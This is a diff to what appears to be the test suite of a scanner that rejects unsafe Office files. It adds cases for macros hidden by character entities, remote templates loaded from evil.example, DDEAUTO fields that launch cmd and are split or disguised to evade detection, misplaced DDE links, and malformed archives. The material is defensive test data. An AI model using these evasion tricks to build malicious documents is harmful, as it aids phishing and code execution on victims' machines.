@@ -43,6 +43,8 @@ def with_macros() -> Iterator[tuple[str, bytes]]:
             ]
         ),
     )
+    told_in_numbers = '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>'
+    yield "a DOCX with macros told in numbers", office("docx", content_types=[told_in_numbers])
     yield "a sheet of old macros", office("xlsx", ("xl/macrosheets/sheet1.xml", "<a/>"))
     yield "a DOCX with a control", office("docx", ("word/activeX/activeX1.xml", "<a/>"), content_types=[CONTROL])
 
@@ -63,6 +65,10 @@ def loading() -> Iterator[tuple[str, bytes]]:
     yield (
         "a template from elsewhere",
         office("docx", ("word/_rels/settings.xml.rels", relations(relation("attachedTemplate", "http://evil.example/a.dotm")))),
+    )
+    yield (
+        "a template told in capitals",
+        office("docx", ("word/_rels/settings.xml.RELS", relations(relation("attachedTemplate", "http://evil.example/a.dotm")))),
     )
     yield "a template from a share", office("docx", rels(relation("attachedTemplate", "file://///evil.example/a.dotm")))
     yield "a template from a share, as Windows names it", office("docx", rels(relation("attachedTemplate", r"\\evil.example\a.dotm")))
@@ -85,11 +91,21 @@ def loading() -> Iterator[tuple[str, bytes]]:
     yield "a field that starts a program", office("docx", text=field("DDEAUTO c:\\\\windows\\\\cmd.exe"))
     yield "a field in pieces", office("docx", text=field("DD", "EAU", "TO cmd"))
     yield "a field spelled in numbers", office("docx", text=field("&#68;DE cmd"))
+    yield "a field in pieces of remarks", office("docx", text=field("DD<!-- work -->E<?work done?>AUTO cmd"))
+    yield "a field behind another", office("docx", text=field("PAGE") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>' + field("DDE cmd"))
+    yield "a field whose mark has a > in it", office("docx", text='<w:instrText w:a=">">DDE cmd</w:instrText>')
+    yield "a field in a part of another folder", office("docx", ("d/header.bin", f"<w:hdr>{field('DDE cmd')}</w:hdr>"))
     yield "a simple field that starts a program", office("docx", text='<w:fldSimple w:instr=" DDE cmd "/>')
     yield (
         "a link to another program",
         office("xlsx", ("xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>')),
     )
+
+
+def misplaced() -> Iterator[tuple[str, bytes]]:
+    link = '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
+    yield "a link to another program where none belongs", office("xlsx", ("xl/foo/e1.xml", link))
+    yield "a link to another program among the sheets", office("xlsx", ("xl/worksheets/sheet1.xml", link))
 
 
 def patched(content: bytes, start: bytes, offset: int, *values: int, form: str = "<H") -> bytes:
@@ -140,6 +156,10 @@ def not_as_it_lies() -> Iterator[Case]:
     yield "a part packed in an odd way", patched(patched(PLAIN, b"PK\x03\x04", 8, 12), b"PK\x01\x02", 10, 12), Unfit.DAMAGED
     yield "a text in wide letters", office("docx", ("word/_rels/a.xml.rels", relations().encode("utf-16"))), Unfit.DAMAGED
     yield "a text with definitions", office("docx", ("word/a.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a/>')), Unfit.DAMAGED
+    start = relations(relation("officeDocument", "d/real.xml", "Internal"))
+    elsewhere = [("[Content_Types].xml", types("docx")), ("_rels/.rels", start), ("word/document.xml", "<a/>"), ("d/real.xml", "<a/>")]
+    yield "a main part that is not where it belongs", zipped(elsewhere), Unfit.DAMAGED
+    yield "a text nested without end", office("docx", ("word/a.xml", "<a>" * 9_999 + "</a>" * 9_999)), Unfit.DAMAGED
     yield "relations that are none", office("docx", ("word/_rels/a.xml.rels", f"<a {OFFICE}")), Unfit.DAMAGED
     yield "an archive cut short", PLAIN[:-30], Unfit.DAMAGED
 
@@ -157,6 +177,7 @@ def cases() -> Iterator[Case]:
         (with_macros(), Unfit.MACROS),
         (carrying(), Unfit.ATTACHED_FILES),
         (loading(), Unfit.LOADS_FROM_ELSEWHERE),
+        (misplaced(), Unfit.LOADS_FROM_ELSEWHERE),
         (too_large(), Unfit.UNPACKS_TOO_LARGE),
         (locked(), Unfit.ENCRYPTED),
     ):
